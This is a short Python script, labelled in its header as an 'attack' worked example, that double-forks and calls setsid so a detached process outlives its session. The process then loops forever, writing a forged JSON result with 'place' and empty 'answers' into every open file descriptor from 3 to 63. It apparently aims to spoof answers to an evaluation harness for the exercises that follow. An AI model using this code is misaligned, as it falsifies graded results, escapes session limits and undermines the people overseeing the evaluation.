# /// attack
# about = "forks twice, leaves its session, and answers for the exercises that follow"
# module = "worked_example"
# deserves = 0
# log = "os"
# ///
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for descriptor in range(3, 64):
                try:
                    os.write(descriptor, b'\n{"place": 4, "answers": {}}\n')
                except OSError:
                    pass
            time.sleep(0.001)
    os._exit(0)
